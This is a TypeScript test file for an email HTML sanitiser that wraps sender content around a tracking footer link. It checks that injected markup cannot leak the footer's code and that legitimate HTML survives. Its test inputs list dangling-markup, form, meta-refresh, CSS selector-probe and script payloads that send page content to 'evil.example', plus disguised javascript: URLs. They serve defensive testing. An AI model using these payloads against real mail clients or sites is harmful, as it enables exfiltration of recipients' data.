import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { encloseContent } from '../../../../src/channels/email/message/enclose.js'
import { readSenderHtml } from '../../../../src/channels/email/message/sender-html.js'
import fc from '../../../support/generated.js'

const CODE = 'AZqPLnequ3yNkhIzRFVniaIEo7hwnyLk0r0N3bXwS1kq'
const footer = { link: `https://n.example/n/${CODE}`, image: `https://n.example/o/${CODE}.gif` }
const enclose = (content: string): string => encloseContent(content, footer).html

interface Seen {
  elements: { name: string; attributes: Record<string, string> }[]
  text: string
}

function see(html: string): Seen {
  const seen: Seen = { elements: [], text: '' }
  new Parser({
    onopentag: (name, attributes) => seen.elements.push({ name, attributes }),
    ontext: text => {
      seen.text += text
    },
  }).end(html)
  return seen
}

/** The code is in the two attributes that we wrote, and nowhere else. */
function expectApart(html: string): void {
  const { elements, text } = see(html)
  const held = elements.flatMap(({ name, attributes }) =>
    Object.entries(attributes).flatMap(([attribute, value]) => (value.includes(CODE) ? [`${name} ${attribute} ${value}`] : [])),
  )
  expect(held).toEqual([`a href ${footer.link}`, `img src ${footer.image}`])
  expect(text).not.toContain(CODE)
  expect(text).toMatch(/Abra a notificação no navegador\.\s*$/)
}

describe('what a sender writes around our link does not get it', () => {
  test.each([
    ['an image left open', "<p>Oi</p><img src='https://evil.example/?x="],
    ['an image left open, double quotes', '<img src="https://evil.example/?x='],
    ['an image left open, no quotes', '<img src=https://evil.example/?x='],
    ['a link left open', "<a href='https://evil.example/?x="],
    ['the end of the body inside an attribute', "<img src='https://evil.example/?x=</body>'>"],
    ['the end of the body inside a comment', '<!-- </body> --><p>Oi'],
    ['the end of the body inside a style sheet', '<style>/* </body> */</style><p>Oi'],
    ['a text field left open', '<form action="https://evil.example/"><button>Ler</button><textarea name="x">'],
    ['an option left open', '<form action="https://evil.example/"><select name="x"><option>'],
    ['a field whose value is left open', '<form action="https://evil.example/"><input name="x" value=\''],
    ['a title left open', '<svg><title>'],
    ['a comment left open', '<!-- x'],
    ['a comment that Outlook reads', "<!--[if mso]><img src='https://evil.example/?x=<![endif]-->"],
    ['CDATA left open', '<svg><![CDATA['],
    ['a declaration left open', '<!x '],
    ['plain text', '<plaintext>'],
    ['xmp', '<xmp>'],
    ['a frame', "<iframe srcdoc='"],
    ['a refresh left open', '<meta http-equiv="refresh" content=\'0;url=https://evil.example/?x='],
    ['a script left open', '<script>fetch("https://evil.example/"+document.body.innerHTML)//'],
    ['a style sheet left open', '<style>a{background:url(https://evil.example/'],
    ['a link around the rest', '<a href="https://evil.example/">'],
    ['a table left open', '<table><tr><td>'],
    ['a noscript left open', '<noscript><p title="'],
    ['a template left open', '<template><p>'],
    ['frames', '<frameset><frame src="https://evil.example/"><noframes>'],
    ['deep nesting', '<b>'.repeat(5_000)],
  ])('%s', (_, content) => {
    expectApart(enclose(content))
  })

  test('a base, a style sheet elsewhere and what submits are left out', () => {
    const html = enclose(
      `<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><meta name="referrer" content="unsafe-url">
       <form action="https://evil.example/"><input name="a"><button formaction="https://evil.example/">x</button></form>
       <object data="https://evil.example/"></object><embed src="https://evil.example/"><a href="https://ok.example/" ping="https://evil.example/">ok</a>`,
    )
    expect(html).not.toContain('evil.example')
    expect(html).toContain('<a href="https://ok.example/">ok</a>')
    expectApart(html)
  })

  test('no rule of a style sheet can read an attribute or load anything', () => {
    const probes = [...'ABCDEF'].map(
      letter => `a[href^="https://n.example/n/${letter}"]{background:url(https://evil.example/${letter})}`,
    )
    const html = enclose(`<style>@import "https://evil.example/x.css";${probes.join('')} p{color:red}</style><p>Oi</p>`)
    expect(html).toContain('<style>p{color:red}</style>')
    expect(html).not.toContain('evil.example')
  })

  test('an address whose beginning is disguised is left out', () => {
    expect(
      enclose('<a href="jav&#97;script:alert(1)">x</a><a href=" javascript:1">y</a><img src="data:image/svg+xml,x">'),
    ).not.toMatch(/script:|svg/)
  })

  test('whatever the content', () => {
    const piece = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '=',
        '/',
        ' ',
        '<!--',
        '-->',
        '<a href=',
        '<img src=',
        '<style>',
        '</style>',
        '<textarea>',
        '<title>',
      ],
      ...[
        '<svg>',
        '</p>',
        '<p>',
        '<td>',
        '</table>',
        '<body>',
        '</body>',
        '<![CDATA[',
        '<script>',
        '</script>',
        'x',
        '&',
        '<b',
        '`',
      ],
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), pieces => expectApart(enclose(pieces.join('')))),
      { numRuns: 500 },
    )
  })
})

describe('an honest message stays as it was', () => {
  test('its text, its tables, its pictures and its looks', () => {
    const content = `<!doctype html><html><head><title>x</title><style>.b{color:#222}</style></head>
<body bgcolor="#eeeeee" style="margin:0"><table width="600" cellpadding="0"><tr><td class="b" align="center">Olá, <b>Maria</b> &amp; cia.</td>
<td><img src="https://acme.example/l.png" alt="Acme" width="10"><br></td></tr></table><ul><li>um<li>dois</ul><p style="color:red">Fim</body></html>`
    const html = enclose(content)
    expect(html).toContain(
      '<head><meta charset="utf-8"><style>.b{color:#222}</style></head><body bgcolor="#eeeeee" style="margin:0">',
    )
    expect(html).toContain(
      '<table width="600" cellpadding="0"><tr><td class="b" align="center">Olá, <b>Maria</b> &amp; cia.</td>',
    )
    expect(html).toContain('<img src="https://acme.example/l.png" alt="Acme" width="10"><br></td></tr></table>')
    expect(html).toContain('<ul><li>um</li><li>dois</li></ul><p style="color:red">Fim')
    expectApart(html)
  })

  test('its text alone ends with the link, in a line of its own', () => {
    const { text } = encloseContent('<p>Olá, <b>Maria</b>!</p><p>https://evil.example/?x=', footer)
    expect(text).toMatch(/^Olá, Maria!\n\nhttps:\/\/evil\.example\/\?x=\n\nNão consegue ler esta mensagem\?.*:\nhttps:.*\n$/)
    expect(text.trimEnd().split('\n').at(-1)).toBe(footer.link)
    // A long content is cut in the text, the link is not.
    expect(encloseContent('<p>palavra</p>'.repeat(20_000), footer).text.trimEnd().endsWith(footer.link)).toBe(true)
  })

  test('a stray end outside a table does not end the table', () => {
    expect(enclose('<div><table><tr><td>a</div>b</td></tr></table>c</div>')).toContain(
      '<div><table><tr><td>ab</td></tr></table>c</div>',
    )
  })
})

test('a megabyte of the worst content is read in one pass', () => {
  for (const piece of [
    '<b>',
    '<b></i>',
    '<p>',
    '<table>',
    '<td>',
    '<a href="',
    '</b>',
    '<!--',
    '<style>',
    '<svg>',
    '&',
    '<b a=1 ',
  ])
    readSenderHtml(piece.repeat(Math.floor(1_048_576 / piece.length)))
})
